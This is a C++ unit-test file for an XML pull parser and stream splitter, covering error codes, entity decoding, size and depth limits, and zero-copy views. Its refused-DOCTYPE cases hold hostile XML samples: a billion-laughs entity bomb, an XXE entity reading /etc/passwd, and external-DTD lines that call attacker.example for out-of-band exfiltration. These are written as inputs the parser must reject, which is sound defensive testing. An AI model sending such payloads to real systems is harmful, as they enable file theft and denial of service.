// The XML pull parser: one case per error code, what it decodes, what it refuses (DTDs, entity
// expansion), its limits, its zero-copy promise, and the splitter that cuts a stream of records.
#include "ingest/xml.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstring>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "ingest_test_support.h"

namespace vigie::ingest {
namespace {

// The tokens of `input` in a compact form: "<a x=1>", "'text'", "</a>", "end" or the error name.
std::string tokens(std::string_view input, XmlOptions options = {}) {
  XmlReader r(options);
  r.reset(input);
  std::string out;
  for (;;) {
    const XmlToken t = r.next();
    if (!out.empty()) out += ' ';
    switch (t) {
      case XmlToken::kStartElement:
        out += '<';
        out += r.name();
        for (const XmlAttribute& a : r.attributes()) {
          out += ' ';
          out += a.name;
          out += '=';
          out += a.value;
        }
        out += r.empty_element() ? "/>" : ">";
        break;
      case XmlToken::kEndElement:
        out += r.empty_element() ? "(/" : "</";
        out += r.name();
        out += '>';
        break;
      case XmlToken::kText:
        out += '\'';
        out += r.text();
        out += '\'';
        break;
      case XmlToken::kEnd:
        return out + "end";
      case XmlToken::kError:
        return out + std::string(xml_error_name(r.error()));
    }
  }
}

// Only the outcome: "ok" or the error name.
std::string outcome(std::string_view input, XmlOptions options = {}) {
  XmlReader r(options);
  r.reset(input);
  for (;;) {
    const XmlToken t = r.next();
    if (t == XmlToken::kEnd) return "ok";
    if (t == XmlToken::kError) return std::string(xml_error_name(r.error()));
  }
}

// ---- Every error code, each with the inputs that must give it -----------------------------------

struct ErrorCase {
  XmlError error;
  std::vector<std::string> inputs;
};

std::string nested(std::size_t depth) {
  std::string s;
  for (std::size_t i = 0; i < depth; ++i) s += "<a>";
  for (std::size_t i = 0; i < depth; ++i) s += "</a>";
  return s;
}

std::string many_attributes(std::size_t n) {
  std::string s = "<a";
  for (std::size_t i = 0; i < n; ++i) s += " a" + std::to_string(i) + "='v'";
  return s + "/>";
}

constexpr const char* kBillionLaughs =
    "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
    " <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
    " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
    "]>\n<lolz>&lol3;</lolz>";

// An external entity (XXE) reading a file; the network and parameter-entity variants below.
constexpr const char* kXxeFile =
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
    "<foo>&xxe;</foo>";

const std::vector<ErrorCase>& error_cases() {
  using namespace std::string_literals;
  static const std::vector<ErrorCase> kCases = {
      {XmlError::kEmpty,
       {"", "  \r\n\t", "<!-- nothing -->", "<?xml version='1.0'?>\n", "<?pi x?>"}},
      {XmlError::kTooLarge, {std::string(2000, ' ') + "<a/>"}},
      {XmlError::kBadUtf8,
       {"<a>\xC3\x28</a>", "<a>\xC0\xAF</a>", "<a>\xED\xA0\x80</a>", "<a>\xF4\x90\x80\x80</a>",
        "<a>\xE2\x82</a>", "\xFF\xFE<\0a\0/\0>\0"s, "<a x='\x80'/>", "<\xC3>"}},
      {XmlError::kBadChar,
       {"<a>\x01</a>", "<a>\0</a>"s, "<a x='\x1B'/>", "<a>\xEF\xBF\xBE</a>", "<a>\xEF\xBF\xBF</a>",
        "\x0C<a/>"}},
      {XmlError::kDoctypeRefused,
       {
           kBillionLaughs,
           kXxeFile,
           "<!DOCTYPE foo SYSTEM \"http://attacker.example/evil.dtd\"><foo/>",
           // Parameter entity (out-of-band exfiltration).
           "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><d/>",
           // Declarations anywhere, even without a DOCTYPE.
           "<!ENTITY x \"y\"><a/>",
           "<a><!DOCTYPE a></a>",
           "<a><!ENTITY x \"y\">&x;</a>",
           "<a/><!ELEMENT a ANY>",
           "<!ATTLIST a b CDATA #IMPLIED><a/>",
           "<!doctype html><a/>",
       }},
      {XmlError::kBadEntity, {"<a>&lol;</a>",      "<a>&xxe;</a>",
                              "<a>&#0;</a>",       "<a>&#x0;</a>",
                              "<a>&#xD800;</a>",   "<a>&#xDFFF;</a>",
                              "<a>&#x110000;</a>", "<a>&#99999999999999999999;</a>",
                              "<a>&#1;</a>",       "<a>&#xFFFE;</a>",
                              "<a>&#;</a>",        "<a>&#x;</a>",
                              "<a>&#12a;</a>",     "<a>&#X41;</a>",
                              "<a>a & b</a>",      "<a>&amp</a>",
                              "<a>&;</a>",         "<a x='&bogus;'/>",
                              "<a x='&#0;'/>",     "<a>&AMP;</a>"}},
      {XmlError::kBadName,
       {"<a:>x</a:>", "<a::b/>", "<a:b:c/>", "<a :b='1'/>", "<a b:='1'/>", "<a 1='2'/>",
        "<a>x</ a>", "<a =\"v\"/>"}},
      {XmlError::kBadAttribute,
       {"<a b/>", "<a b='1' b='2'/>", "<a b=1/>", "<a b='<'/>", "<a b='1'c='2'/>", "<a b=\"x<y\"/>",
        "<a b c='1'/>"}},
      {XmlError::kTooManyAttributes, {many_attributes(257)}},
      {XmlError::kUnbalanced,
       {"<a></b>", "</a>", "<a><b></a></b>", "<a/></a>", "<a></A>", "<ns:a></a>"}},
      {XmlError::kTooDeep, {nested(65), nested(100000)}},
      {XmlError::kStrayContent,
       {"x<a/>", "<a/>x", "<a/><b/>", "<a/>&amp;", "<a/><![CDATA[x]]>", "<![CDATA[x]]><a/>",
        "<a></a>\n<a></a>"}},
      {XmlError::kBadDeclaration,
       {"<?xml version='2.0'?><a/>", "<?xml?><a/>", "<?xml encoding='UTF-8'?><a/>",
        " <?xml version='1.0'?><a/>", "<a/><?xml version='1.0'?>", "<a><?xml version='1.0'?></a>",
        "<?XML version='1.0'?><a/>", "<?xml version='1.0' standalone='maybe'?><a/>",
        "<?xml version='1.0' foo='bar'?><a/>", "<?xml version=1.0?><a/>",
        "<?xml version='1.0' standalone='yes' encoding='UTF-8'?><a/>"}},
      {XmlError::kUnsupportedEncoding,
       {"<?xml version='1.0' encoding='UTF-16'?><a/>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>",
        "<?xml version='1.0' encoding='windows-1252'?><a/>"}},
      {XmlError::kMalformed,
       {"<a><!-- a -- b --></a>", "<a><!-- a ---></a>", "<a>x < y</a>", "<a/ >", "<a>< b/></a>",
        "<a><? x?></a>", "<a></a x>", "<!1><a/>", "<a><!></a>", "<a><![INCLUDE[x]]></a>", "<1a/>"}},
      {XmlError::kTruncated,
       {"<a>",
        "<a",
        "<a b",
        "<a b=",
        "<a b='1",
        "<a>x",
        "<a><!-- x",
        "<a><!--",
        "<a><![CDATA[x",
        "<a>&am",
        "<a>&#x4",
        "<a><?pi",
        "<a></a",
        "<a></",
        "<!--",
        "<!-- x -",
        "<?xml version='1.0'",
        "<a/",
        "<a><b/>",
        "<a><",
        "<a><![CDA"}},
  };
  return kCases;
}

class XmlErrorTest : public ::testing::TestWithParam<ErrorCase> {};

TEST_P(XmlErrorTest, GivesItsCode) {
  const ErrorCase& c = GetParam();
  XmlOptions options;
  if (c.error == XmlError::kTooLarge) options.max_bytes = 1000;
  for (const std::string& input : c.inputs) {
    EXPECT_EQ(outcome(input, options), xml_error_name(c.error))
        << "input: " << ::testing::PrintToString(input.substr(0, 200));
  }
}

INSTANTIATE_TEST_SUITE_P(EveryCode, XmlErrorTest, ::testing::ValuesIn(error_cases()),
                         [](const ::testing::TestParamInfo<ErrorCase>& info) {
                           std::string name(xml_error_name(info.param.error).substr(4));
                           std::replace(name.begin(), name.end(), '-', '_');
                           return name;  // "xml-bad-utf8" -> "bad_utf8"
                         });

TEST(Xml, EveryErrorHasACaseAndAStableUniqueName) {
  std::set<std::string> names;
  std::set<XmlError> covered;
  for (const ErrorCase& c : error_cases()) covered.insert(c.error);
  for (int i = 0; i < kXmlErrorCount; ++i) {
    const auto e = static_cast<XmlError>(i);
    const std::string name(xml_error_name(e));
    EXPECT_TRUE(names.insert(name).second) << name;
    EXPECT_FALSE(xml_error_message(e).empty());
    if (e == XmlError::kOk) {
      EXPECT_EQ(name, "ok");
    } else {
      EXPECT_EQ(name.rfind("xml-", 0), 0u) << name;
      EXPECT_TRUE(covered.count(e)) << name << " has no test case";
    }
  }
}

TEST(Xml, ErrorOffsetsPointAtTheFault) {
  XmlReader r;
  r.reset("<a>ok</a>\x01");
  while (r.next() != XmlToken::kError) {
  }
  EXPECT_EQ(r.error(), XmlError::kBadChar);
  EXPECT_EQ(r.error_offset(), 9u);
  r.reset("<a><b></c></a>");
  while (r.next() != XmlToken::kError) {
  }
  EXPECT_EQ(r.error(), XmlError::kUnbalanced);
  EXPECT_EQ(r.error_offset(), 6u);
  r.reset("<a><!DOCTYPE x></a>");
  while (r.next() != XmlToken::kError) {
  }
  EXPECT_EQ(r.error_offset(), 3u);
  r.reset("<a x='&nope;'/>");
  while (r.next() != XmlToken::kError) {
  }
  EXPECT_EQ(r.error(), XmlError::kBadEntity);
  EXPECT_EQ(r.error_offset(), 6u);
}

TEST(Xml, AnErrorSticks) {
  XmlReader r;
  r.reset("<a></b>");
  EXPECT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.next(), XmlToken::kError);
  EXPECT_EQ(r.next(), XmlToken::kError);
  EXPECT_EQ(r.error(), XmlError::kUnbalanced);
  EXPECT_EQ(r.skip_element(), XmlToken::kError);
  // And reset() starts afresh.
  r.reset("<a/>");
  EXPECT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.next(), XmlToken::kEndElement);
  EXPECT_EQ(r.next(), XmlToken::kEnd);
  EXPECT_EQ(r.next(), XmlToken::kEnd);
  EXPECT_EQ(r.error(), XmlError::kOk);
}

// ---- What it reads ------------------------------------------------------------------------------

TEST(Xml, ElementsTextAndEmptyElements) {
  EXPECT_EQ(tokens("<a>x<b/>y<c></c></a>"), "<a> 'x' <b/> (/b> 'y' <c> </c> </a> end");
  EXPECT_EQ(tokens("<a/>"), "<a/> (/a> end");
  EXPECT_EQ(tokens("<a >\n  <b>1</b >\n</a\t>"), "<a> '\n  ' <b> '1' </b> '\n' </a> end");
}

TEST(Xml, PredefinedEntitiesAndCharacterReferences) {
  EXPECT_EQ(tokens("<a>&lt;&gt;&amp;&apos;&quot;</a>"), "<a> '<>&'\"' </a> end");
  EXPECT_EQ(tokens("<a>&#65;&#x42;&#x63;&#0000068;</a>"), "<a> 'ABcD' </a> end");
  // Two, three and four UTF-8 bytes; tab, LF and CR by reference are kept as themselves.
  EXPECT_EQ(tokens("<a>&#xE9;&#x20AC;&#x1F600;&#9;&#10;&#13;</a>"),
            "<a> '\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\t\n\r' </a> end");
  EXPECT_EQ(tokens("<a>&#x10FFFF;&#xD7FF;&#xE000;&#xFFFD;</a>"),
            "<a> '\xF4\x8F\xBF\xBF\xED\x9F\xBF\xEE\x80\x80\xEF\xBF\xBD' </a> end");
  EXPECT_EQ(tokens("<a x='&lt;&amp;&#x41;'/>"), "<a x=<&A/> (/a> end");
  // An escaped markup stays text: nothing is parsed twice.
  EXPECT_EQ(tokens("<a>&lt;!DOCTYPE x&gt;&amp;lol;</a>"), "<a> '<!DOCTYPE x>&lol;' </a> end");
}

TEST(Xml, AttributesInBothQuoteStylesAndTheirEdgeCases) {
  EXPECT_EQ(tokens("<a x=\"1\" y='2'/>"), "<a x=1 y=2/> (/a> end");
  EXPECT_EQ(tokens("<a x=\"it's\" y='say \"hi\"'/>"), "<a x=it's y=say \"hi\"/> (/a> end");
  EXPECT_EQ(tokens("<a x = '1'\n\ty\t=\"2\" />"), "<a x=1 y=2/> (/a> end");
  EXPECT_EQ(tokens("<a x=''/>"), "<a x=/> (/a> end");
  EXPECT_EQ(tokens("<a x='>'/>"), "<a x=>/> (/a> end");
  // Whitespace in values becomes a space (CR LF is one), references are kept (XML 1.0 §3.3.3).
  EXPECT_EQ(tokens("<a x='1\t2\n3\r\n4\r5&#10;6&#9;7'/>"), "<a x=1 2 3 4 5\n6\t7/> (/a> end");
  // Attribute names are compared as written: these are two attributes.
  EXPECT_EQ(tokens("<a x='1' X='2' p:x='3'/>"), "<a x=1 X=2 p:x=3/> (/a> end");
  XmlReader r;
  r.reset("<a Name='X' Other=\"Y\"/>");
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  ASSERT_NE(r.attribute("Name"), nullptr);
  EXPECT_EQ(*r.attribute("Name"), "X");
  EXPECT_EQ(*r.attribute("Other"), "Y");
  EXPECT_EQ(r.attribute("name"), nullptr);
  EXPECT_EQ(outcome(many_attributes(256)), "ok");
}

TEST(Xml, CdataCommentsAndProcessingInstructions) {
  EXPECT_EQ(tokens("<a><![CDATA[<b>&amp;</b>]]></a>"), "<a> '<b>&amp;</b>' </a> end");
  EXPECT_EQ(tokens("<a>x<![CDATA[y]]>z</a>"), "<a> 'xyz' </a> end");
  EXPECT_EQ(tokens("<a><![CDATA[]]></a>"), "<a> </a> end");
  EXPECT_EQ(tokens("<a><![CDATA[a]]]]><![CDATA[>b]]></a>"), "<a> 'a]]>b' </a> end");
  EXPECT_EQ(tokens("<a>x<!-- <b>&bogus; -->y<?pi data?>z</a>"), "<a> 'xyz' </a> end");
  EXPECT_EQ(tokens("<a><!----></a>"), "<a> </a> end");
  EXPECT_EQ(tokens("<?xml-stylesheet href='x'?><!--c--><a/><!--c--><?pi?>\n"), "<a/> (/a> end");
  // Line ends are normalised in CDATA too.
  EXPECT_EQ(tokens("<a><![CDATA[1\r\n2\r3]]></a>"), "<a> '1\n2\n3' </a> end");
}

TEST(Xml, XmlDeclarationAndByteOrderMark) {
  for (const char* ok :
       {"<?xml version=\"1.0\" encoding=\"utf-8\"?><a/>", "<?xml version='1.0'?><a/>",
        "<?xml version=\"1.1\" encoding=\"UTF-8\" standalone=\"yes\" ?><a/>",
        "<?xml version = '1.0' encoding = 'US-ASCII'?>\n<a/>", "\xEF\xBB\xBF<a/>",
        "\xEF\xBB\xBF<?xml version='1.0' encoding='UTF-8'?><a/>",
        "<?xml version='1.0' standalone='no'?><a/>"}) {
    EXPECT_EQ(outcome(ok), "ok") << ok;
  }
}

TEST(Xml, LineEndsInTextAreNormalised) {
  EXPECT_EQ(tokens("<a>1\r\n2\r3\n4</a>"), "<a> '1\n2\n3\n4' </a> end");
  // The 4662 shape of the WEF sample.
  EXPECT_EQ(tokens("<Data>%%7688\r\n\t\t\t\t</Data>"), "<Data> '%%7688\n\t\t\t\t' </Data> end");
}

TEST(Xml, NamespacesAreKeptAsWritten) {
  EXPECT_EQ(tokens("<e:Event xmlns:e='urn:x'><e:System/></e:Event>"),
            "<e:Event xmlns:e=urn:x> <e:System/> (/e:System> </e:Event> end");
  EXPECT_EQ(xml_local_name("e:Event"), "Event");
  EXPECT_EQ(xml_prefix("e:Event"), "e");
  EXPECT_EQ(xml_local_name("Event"), "Event");
  EXPECT_EQ(xml_prefix("Event"), "");
  // The prefix is part of the name: matching end tags compare names as written.
  EXPECT_EQ(outcome("<e:a></a>"), "xml-unbalanced");
  EXPECT_EQ(outcome("<_a.b-c:d_1><\xC3\xA9t\xC3\xA9/></_a.b-c:d_1>"), "ok");
}

TEST(Xml, WhitespaceAroundTheRootIsAllowed) {
  EXPECT_EQ(tokens("\r\n <a/> \n\t"), "<a/> (/a> end");
  EXPECT_EQ(tokens("<a/>\n"), "<a/> (/a> end");
}

// ---- Limits -------------------------------------------------------------------------------------

TEST(Xml, DepthLimit) {
  EXPECT_EQ(outcome(nested(64)), "ok");
  EXPECT_EQ(outcome(nested(65)), "xml-too-deep");
  XmlOptions o;
  o.max_depth = 3;
  EXPECT_EQ(outcome("<a><b><c/></b></a>", o), "ok");
  EXPECT_EQ(outcome("<a><b><c><d/></c></b></a>", o), "xml-too-deep");
}

TEST(Xml, NoRecursionOnDepth) {
  // Far deeper than any stack would survive if the parser recursed.
  XmlOptions o;
  o.max_depth = 1'000'000;
  o.max_bytes = 16 << 20;
  EXPECT_EQ(outcome(nested(500'000), o), "ok");
  std::string unclosed;
  for (int i = 0; i < 500'000; ++i) unclosed += "<a>";
  EXPECT_EQ(outcome(unclosed, o), "xml-truncated");
}

TEST(Xml, SizeLimit) {
  XmlOptions o;
  o.max_bytes = 8;
  EXPECT_EQ(outcome("<a>1</a>", o), "ok");
  EXPECT_EQ(outcome("<a>12</a>", o), "xml-too-large");
}

TEST(Xml, HostileShapesParseToTheirOutcome) {
  // Shapes that make naive parsers quadratic: long runs of references, of attributes, of nested
  // tags, of unterminated markup, 4 MiB each. Their cost is measured by benchmarks/xml_bench
  // (no wall-clock assertion in a unit test); under the sanitizers they run here for their
  // outcome and for memory errors.
  XmlOptions o;
  o.max_bytes = 8 << 20;
  const std::size_t n = 1 << 20;
  std::vector<std::pair<std::string, std::string>> inputs;
  std::string refs = "<a>";
  while (refs.size() < 4 * n) refs += "&amp;&#x41;";
  inputs.emplace_back(refs + "</a>", "ok");
  // Tags with the most attributes allowed: the duplicate check is bounded per tag.
  std::string tag = "<b";
  for (int i = 0; i < 256; ++i) tag += " a" + std::to_string(i) + "='&lt;'";
  tag += "/>";
  std::string attrs = "<a>";
  while (attrs.size() < 4 * n) attrs += tag;
  inputs.emplace_back(attrs + "</a>", "ok");
  std::string dashes = "<a><!--";
  while (dashes.size() < 4 * n) dashes += "-x";
  inputs.emplace_back(dashes, "xml-truncated");
  std::string lts = "<a>";
  while (lts.size() < 4 * n) lts += "<b/>";
  inputs.emplace_back(lts + "</a>", "ok");
  for (const auto& [input, want] : inputs) {
    EXPECT_EQ(outcome(input, o), want);
  }
}

// ---- Zero copy ----------------------------------------------------------------------------------

bool inside(std::string_view part, std::string_view whole) {
  return part.data() >= whole.data() && part.data() + part.size() <= whole.data() + whole.size();
}

TEST(Xml, ValuesAreViewsIntoTheInputUnlessDecoded) {
  const std::string input = "<a x='plain' y='a&amp;b'>text<b>x&lt;y</b></a>";
  XmlReader r;
  r.reset(input);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_TRUE(inside(r.name(), input));
  EXPECT_TRUE(inside(r.attributes()[0].value, input));
  EXPECT_FALSE(inside(r.attributes()[1].value, input));
  const std::string_view decoded_attribute = r.attributes()[1].value;
  ASSERT_EQ(r.next(), XmlToken::kText);
  EXPECT_TRUE(inside(r.text(), input));
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  ASSERT_EQ(r.next(), XmlToken::kText);
  EXPECT_FALSE(inside(r.text(), input));
  const std::string_view decoded_text = r.text();
  while (r.next() != XmlToken::kEnd) {
  }
  // Views stay valid until the next reset().
  EXPECT_EQ(decoded_attribute, "a&b");
  EXPECT_EQ(decoded_text, "x<y");
}

TEST(Xml, DecodedValuesGoToTheCallersBuffer) {
  const std::string input = "<a y='a&amp;b'>x&lt;y</a>";
  std::vector<char> scratch(input.size());
  XmlReader r;
  r.reset(input, scratch);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  const std::string_view scratch_view(scratch.data(), scratch.size());
  EXPECT_TRUE(inside(r.attributes()[0].value, scratch_view));
  ASSERT_EQ(r.next(), XmlToken::kText);
  EXPECT_TRUE(inside(r.text(), scratch_view));
  EXPECT_EQ(r.text(), "x<y");
  // A buffer too small is not used.
  std::vector<char> small(4);
  r.reset(input, small);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_FALSE(inside(r.attributes()[0].value, std::string_view(small.data(), small.size())));
  EXPECT_EQ(r.attributes()[0].value, "a&b");
}

TEST(Xml, DecodingNeverOutgrowsTheInput) {
  // The worst cases for growth, where a scratch buffer as long as the input must still suffice.
  for (const char* input :
       {"<a>&#x10000;&#x10000;</a>", "<a x='&#128;&#2048;&#65536;'>&#128;&#2048;&#65536;</a>",
        "<a>\r\r\r<![CDATA[\r\r]]>&#9;&lt;</a>", "<a x='\r\n\t&#x10FFFF;'>1<![CDATA[2]]>3</a>"}) {
    std::vector<char> exact(std::strlen(input));
    XmlReader r;
    r.reset(input, exact);
    for (XmlToken t = r.next(); t != XmlToken::kEnd; t = r.next()) {
      ASSERT_NE(t, XmlToken::kError) << input << " " << xml_error_name(r.error());
    }
  }
}

TEST(Xml, SkipElementChecksWhatItSkips) {
  XmlReader r;
  r.reset("<a><skip><x y='1'>t</x><z/></skip><b/></a>");
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.name(), "skip");
  EXPECT_EQ(r.skip_element(), XmlToken::kEndElement);
  EXPECT_EQ(r.name(), "skip");
  EXPECT_EQ(r.depth(), 1u);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.name(), "b");
  r.reset("<a><skip><x>&bogus;</x></skip></a>");
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.skip_element(), XmlToken::kError);
  EXPECT_EQ(r.error(), XmlError::kBadEntity);
  // An empty element is skipped at once.
  r.reset("<a><e/><f/></a>");
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.skip_element(), XmlToken::kEndElement);
  EXPECT_EQ(r.name(), "e");
  ASSERT_EQ(r.next(), XmlToken::kStartElement);
  EXPECT_EQ(r.name(), "f");
}

TEST(Xml, ReusedReaderGivesTheSameTokens) {
  XmlReader r;
  for (int round = 0; round < 3; ++round) {
    for (const char* input : {"<a x='&amp;'>t&lt;</a>", "<b/>", "<c><d>1</d></c>"}) {
      r.reset(input);
      XmlReader fresh;
      fresh.reset(input);
      for (;;) {
        const XmlToken a = r.next(), b = fresh.next();
        ASSERT_EQ(a, b);
        if (a == XmlToken::kEnd || a == XmlToken::kError) break;
        EXPECT_EQ(r.name(), fresh.name());
        EXPECT_EQ(r.text(), fresh.text());
      }
    }
  }
}

TEST(Xml, RandomMutationsNeverCrash) {
  // The fuzz target's property, run briefly in every test pass: any bytes give tokens then kEnd,
  // or an error; depth and views stay consistent.
  const std::string sample =
      testing::read_file(testing::shared_dir() / "formats" / "windows_wef_forwardedevents.xml");
  ASSERT_FALSE(sample.empty());
  std::mt19937 rng(4);
  XmlReader r;
  for (int i = 0; i < 3000; ++i) {
    std::string s = sample.substr(rng() % sample.size(), 1 + rng() % 3000);
    for (int k = rng() % 8; k > 0; --k) {
      const char bytes[] = "<>&;/'\"=!?[]-#x\r\n\0\xC3\xFF";
      s[rng() % s.size()] = bytes[rng() % (sizeof bytes - 1)];
    }
    r.reset(s);
    for (int guard = 0; guard < 100000; ++guard) {
      const XmlToken t = r.next();
      if (t == XmlToken::kEnd || t == XmlToken::kError) break;
      if (t == XmlToken::kText) {
        EXPECT_FALSE(r.text().empty());
      }
    }
  }
}

// ---- Splitter -----------------------------------------------------------------------------------

// The records of `stream` fed in chunks of `chunk` bytes (0: all at once), errors as "!name".
std::vector<std::string> split(std::string_view stream, std::size_t chunk = 0,
                               XmlSplitOptions options = {}) {
  XmlSplitter splitter(options);
  std::vector<std::string> out;
  std::string pending;
  std::size_t fed = 0;
  for (;;) {
    const bool at_end = fed == stream.size();
    const XmlSplitter::Step s = at_end ? splitter.finish(pending) : splitter.next(pending);
    EXPECT_LE(s.consumed, pending.size());
    std::string record(s.record);
    pending.erase(0, s.consumed);
    if (s.outcome == XmlSplitter::Outcome::kRecord) {
      out.push_back(record);
    } else if (s.outcome == XmlSplitter::Outcome::kError) {
      out.push_back("!" + std::string(xml_error_name(s.error)));
    } else if (s.outcome == XmlSplitter::Outcome::kEnd) {
      EXPECT_TRUE(at_end);
      return out;
    } else {
      EXPECT_FALSE(at_end);
      const std::size_t n = chunk == 0 ? stream.size() - fed : std::min(chunk, stream.size() - fed);
      pending.append(stream.substr(fed, n));
      fed += n;
    }
  }
}

TEST(XmlSplitter, TheWefSampleGivesOneRecordPerEvent) {
  const std::string sample =
      testing::read_file(testing::shared_dir() / "formats" / "windows_wef_forwardedevents.xml");
  const std::vector<std::string> records = split(sample);
  ASSERT_EQ(records.size(), 7u);
  for (const std::string& r : records) {
    EXPECT_TRUE(r.starts_with("<Event xmlns=")) << r.substr(0, 40);
    EXPECT_TRUE(r.ends_with("</Event>"));
    EXPECT_EQ(outcome(r), "ok");
  }
  // The 4662 event, written over five lines, is one record.
  EXPECT_NE(records[5].find("<EventID>4662</EventID>"), std::string::npos);
  EXPECT_NE(records[5].find("\r\n\t{19195a5b"), std::string::npos);
  for (std::size_t chunk : {1u, 2u, 7u, 64u, 1000u}) {
    EXPECT_EQ(split(sample, chunk), records) << "chunks of " << chunk;
  }
}

TEST(XmlSplitter, SkipsWhatCarriesNothing) {
  EXPECT_EQ(split("\xEF\xBB\xBF<?xml version='1.0'?>\n<!-- c -->\n<Events>\n<a/>\n<b x='>'>t</b>"
                  "\n</Events>\n"),
            (std::vector<std::string>{"<a/>", "<b x='>'>t</b>"}));
  // No container: concatenated records, as wevtutil qe /f:xml writes them.
  EXPECT_EQ(split("<Event><x/></Event><Event>2</Event>"),
            (std::vector<std::string>{"<Event><x/></Event>", "<Event>2</Event>"}));
  EXPECT_EQ(split("<Events/>"), std::vector<std::string>{});
  EXPECT_EQ(split(""), std::vector<std::string>{});
}

TEST(XmlSplitter, NestingCommentsAndCdataDoNotEndARecord) {
  const std::string r =
      "<Event><a><a>x</a></a><!-- </Event> --><![CDATA[</Event>]]><?pi </Event>?>"
      "<b q=\"</Event>\"/>1 < 2</Event>";
  EXPECT_EQ(split(r + "\n<Event/>"), (std::vector<std::string>{r, "<Event/>"}));
}

TEST(XmlSplitter, AnythingElseIsARecordForItsParserToReject) {
  const std::vector<std::string> records =
      split("junk\n<!DOCTYPE x [<!ENTITY e \"e\">]>\n</Event>\n<Event>ok</Event>");
  ASSERT_EQ(records.size(), 5u);
  EXPECT_EQ(outcome(records[0]), "xml-stray-content");
  EXPECT_EQ(outcome(records[1]), "xml-doctype-refused");
  EXPECT_EQ(outcome(records[2]), "xml-stray-content");  // "]>\n"
  EXPECT_EQ(outcome(records[3]), "xml-unbalanced");
  EXPECT_EQ(records[4], "<Event>ok</Event>");
}

TEST(XmlSplitter, ATruncatedLastRecordIsGivenToItsParser) {
  const std::vector<std::string> records = split("<Event>1</Event>\n<Event><x>");
  ASSERT_EQ(records.size(), 2u);
  EXPECT_EQ(outcome(records[1]), "xml-truncated");
}

TEST(XmlSplitter, AnOversizedRecordIsReportedOnceAndSkipped) {
  XmlSplitOptions o;
  o.max_record_bytes = 64;
  const std::string big =
      "<Event>" + std::string(200, 'x') + "\n" + std::string(200, 'y') + "</Event>";
  const std::string stream = "<Event>1</Event>\n" + big + "\n<Event>2</Event>\n";
  for (std::size_t chunk : {0u, 1u, 16u}) {
    EXPECT_EQ(split(stream, chunk, o),
              (std::vector<std::string>{"<Event>1</Event>", "!xml-too-large", "<Event>2</Event>"}))
        << "chunks of " << chunk;
  }
  // Closed but too long, in one read: the same, the rest of its line goes with it.
  EXPECT_EQ(split("<Event>" + std::string(100, 'x') + "</Event><Event/>\n<Event/>", 0, o),
            (std::vector<std::string>{"!xml-too-large", "<Event/>"}));
  // A comment to skip is bounded too.
  EXPECT_EQ(split("<!--" + std::string(100, 'x') + "-->\n<Event/>", 0, o),
            (std::vector<std::string>{"!xml-too-large", "<Event/>"}));
}

}  // namespace
}  // namespace vigie::ingest
